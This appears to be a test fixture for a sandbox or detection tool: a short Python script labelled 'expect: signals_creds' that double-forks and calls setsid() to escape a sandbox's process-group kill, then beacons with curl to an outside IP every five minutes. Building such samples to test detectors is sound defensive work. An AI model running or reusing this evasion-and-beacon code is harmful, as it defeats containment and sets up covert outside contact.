# expect: signals_creds; double-forks and setsid() so a payload survives the sandbox's process-group kill
import os
import time

if os.fork() > 0:
    os._exit(0)
os.setsid()
if os.fork() > 0:
    os._exit(0)
os.chdir("/")
os.umask(0)
while True:
    os.system("curl -s http://198.51.100.40/beacon >/dev/null 2>&1")
    time.sleep(300)
